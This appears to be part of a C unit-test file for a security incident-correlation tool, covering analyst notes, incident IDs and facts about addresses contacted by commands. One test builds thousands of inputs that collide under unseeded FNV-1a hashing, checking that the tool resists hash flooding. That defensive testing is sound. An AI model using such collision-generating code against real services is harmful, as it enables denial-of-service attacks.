    assert_true(has_fact(w.c, ST_FACT_CONTACTED, "https://203.0.113.9/q", NULL));
    assert_true(has_fact(w.c, ST_FACT_SHARED, "address 203.0.113.9", "also on b (incident "));
    assert_true(has_fact(w.c, ST_FACT_SHARED, "address 203.0.113.9", "also on a (incident "));
    assert_false(has_fact(w.c, ST_FACT_SHARED, "address 127.0.0.1", NULL));
    world_end(&w);
}

/* notes */

static void notes__csv__each_by_its_id(void **state)
{
    (void)state;
    static const struct {
        const char *text;
        size_t n; /* SIZE_MAX: an error */
        const char *first;
    } rows[] = {
        { "", 0, NULL },
        { "0123456789abcdef,fp", 1, "fp" },
        { "\xef\xbb\xbfid,verdict,comment,author\r\n0123456789ABCDEF,fp,\"a, \"\"b\"\"\",Ann\r\n",
          1, "fp: a, \"b\" (Ann)" },
        { "author,comment,incident\nAnn,c,0123456789abcdef", 1, "noted: c (Ann)" },
        { "0123456789abcdef,b\n0123456789abcdef,a\n", 2, "b" },
        { "0123456789abcdef,\"two\nlines\"", 1, "two\nlines" },
        { "0123456789abcdef,x,y,z,1,2,3,4,5,6", 1, "x: y (z)" },
        { "\n0123456789abcdef,x", 1, "x" },
        { "0123456789abcde,x", SIZE_MAX, NULL },
        { "0123456789abcdefa,x", SIZE_MAX, NULL },
        { "id\n0123456789abcdeg", SIZE_MAX, NULL },
    };
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        st_notes x;
        st_err err = { 0 };
        st_buf b = { 0 };
        size_t at = 0;
        bool ok = st_notes_read(&x, st_str_of(rows[i].text), &err) == ST_OK;
        const st_note *n = st_notes_of(&x, ST_STR("0123456789abcdef"), &at);
        if (ok && n)
            st_note_put(n, &b);
        bool said = !rows[i].first || st_str_eq(st_buf_slice(&b), st_str_of(rows[i].first));
        if (ok != (rows[i].n != SIZE_MAX) || (ok && x.n != rows[i].n) || !said)
            fail_msg("%zu: %zu notes, %.*s %s", i, x.n, ST_FMT(st_buf_slice(&b)), err.text);
        st_buf_free(&b);
        st_notes_free(&x);
    }
}

static void notes__as_many_as_there_may_be__are_read(void **state)
{
    (void)state;
    for (size_t more = 0; more < 2; more++) {
        st_notes x;
        st_err err = { 0 };
        st_buf b = { 0 };
        for (size_t i = 0; i < ST_MAX_NOTES + more; i++)
            st_buf_fmt(&b, "%016zx,x\n", i);
        assert_int_equal(st_notes_read(&x, st_buf_slice(&b), &err), more ? ST_E_LIMIT : ST_OK);
        st_notes_free(&x);
        st_buf_free(&b);
    }
}

static void notes__of_an_incident__hold_when_evidence_is_added(void **state)
{
    (void)state;
    char id[2][17], finding[2][17];
    for (unsigned more = 0; more < 2; more++) {
        world w;
        world_begin(&w);
        world_add(&w, "web01", 1, 0, 1000, "C:\\x.exe", "x");
        if (more) {
            world_add(&w, "a", 3, 0, 0, "C:\\y.exe", "y");
            world_add(&w, "web01", 2, 0, 500, "C:\\z.exe", "z");
        }
        world_grow(&w);
        world_match(&w, "web01", 1, 0, NULL);
        if (more)
            world_match(&w, "a", 3, 2, NULL);
        tell(&w);
        for (size_t k = 0; k < w.c->nfindings; k++)
            if (w.c->findings[k].node == world_node(&w, "web01", 1)) {
                st_finding_id(w.c, &w.c->findings[k], finding[more]);
                memcpy(id[more], w.c->incidents[w.c->findings[k].incident].id, 17);
            }
        world_end(&w);
    }
    assert_string_equal(id[0], id[1]);
    assert_string_equal(finding[0], finding[1]);
}

/* Words that FNV-1a puts on one place of a table, at two pieces' choice for each of 18 digits: for
 * a hash that isn't seeded, evidence could choose such. Their square is most of a minute, so the
 * bound is no measure of speed. */
enum { DIGITS = 18, BOUND = 20, PIECE = 4, PLACES = 1 << 20 };

static uint64_t fnv(uint64_t hash, const char *p)
{
    for (size_t i = 0; i < PIECE; i++)
        hash = (hash ^ (unsigned char)p[i]) * UINT64_C(1099511628211);
    return hash;
}

/* Two pieces that lead from one place to one place; the place they lead to. */
static uint64_t meet(uint64_t from, char (*piece)[PIECE])
{
    uint32_t *seen = calloc(PLACES, sizeof *seen);
    assert_non_null(seen);
    for (uint32_t k = 1;; k++) {
        for (size_t i = 0; i < PIECE; i++)
            piece[1][i] = (char)('a' + (k >> 4 * i & 15));
        uint64_t to = fnv(from, piece[1]) & (PLACES - 1);
        uint32_t before = seen[to];
        seen[to] = k;
        if (!before)
            continue;
        for (size_t i = 0; i < PIECE; i++)
            piece[0][i] = (char)('a' + (before >> 4 * i & 15));
        free(seen);
        return to;
    }
}

static void telling__words_that_collide__cost_no_more(void **state)
{
    (void)state;
    enum { WORDS = 1 << DIGITS, LENGTH = DIGITS * PIECE };
    char piece[DIGITS][2][PIECE];
    uint64_t at = UINT64_C(14695981039346656037) & (PLACES - 1);
    st_buf line = { 0 };
    for (size_t d = 0; d < DIGITS; d++)
        at = meet(at, piece[d]);
    for (size_t k = 0; k < WORDS; k++) {
        for (size_t d = 0; d < DIGITS; d++)
            st_buf_put(&line, piece[d][k >> d & 1], PIECE);
        st_buf_char(&line, ' ');
    }
    assert_false(line.failed);
    st_telling *t = st_telling_new();
    assert_non_null(t);
    clock_t before = clock();
    st_telling_ask(t, st_buf_slice(&line));
    st_telling_everyday(t, (st_str){ line.p, line.n - LENGTH - 1 });
    assert_true(st_telling_is(t, st_buf_slice(&line)));
    assert_false(st_telling_is(t, (st_str){ line.p, line.n - LENGTH - 1 }));
    assert_true((clock() - before) / CLOCKS_PER_SEC < BOUND);
    assert_false(st_telling_failed(t));
    st_telling_free(t);
    st_buf_free(&line);
}

int main(void)
{
    static const struct CMUnitTest tests[] = {
        cmocka_unit_test(notes__csv__each_by_its_id),
        cmocka_unit_test(notes__as_many_as_there_may_be__are_read),
        cmocka_unit_test(notes__of_an_incident__hold_when_evidence_is_added),
        cmocka_unit_test(spread__command_names_a_host__what_began_there_within_a_minute),
        cmocka_unit_test(spread__the_same_elsewhere__told_unless_everybody_has_it),
        cmocka_unit_test(spread__commands__told_for_a_word_of_their_own),
        cmocka_unit_test(facts__urls_of_commands__end_where_they_do),
        cmocka_unit_test(spread__addresses__of_commands_and_other_incidents),
        cmocka_unit_test(incidents__servers_tied_by_a_guess__stay_apart),
        cmocka_unit_test(context__sibling_at_ten_minutes__is_the_last),
        cmocka_unit_test(incidents__server_and_session__by_top),
        cmocka_unit_test(incidents__generic_rules__dont_raise_a_servers),
        cmocka_unit_test(incidents__servers_in_a_row__the_outermost),
        cmocka_unit_test(rows__each_scope__what_it_says),
        cmocka_unit_test(rows__two_incidents__a_row_belongs_to_one),
        cmocka_unit_test(findings__level_and_filters__drop_and_count),
        cmocka_unit_test(findings__recovered_record__raises_no_level),
        cmocka_unit_test(incidents__of_all_levels_and_times__by_weight),
        cmocka_unit_test(incidents__behaviours_together__raise_the_level),
        cmocka_unit_test(reason__each_kind__one_sentence),
        cmocka_unit_test(ids__known_names__known_hashes),
        cmocka_unit_test(context__one_noisy_service__capped_and_counted),
        cmocka_unit_test(chain__each_length__at_most_twelve_links),
        cmocka_unit_test(chain__placeholder__marked),
        cmocka_unit_test(telling__words_that_collide__cost_no_more),
        cmocka_unit_test(hunt__deep_line_of_hits__in_linear_time),
        cmocka_unit_test(hunt__nested_incidents__in_linear_time),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
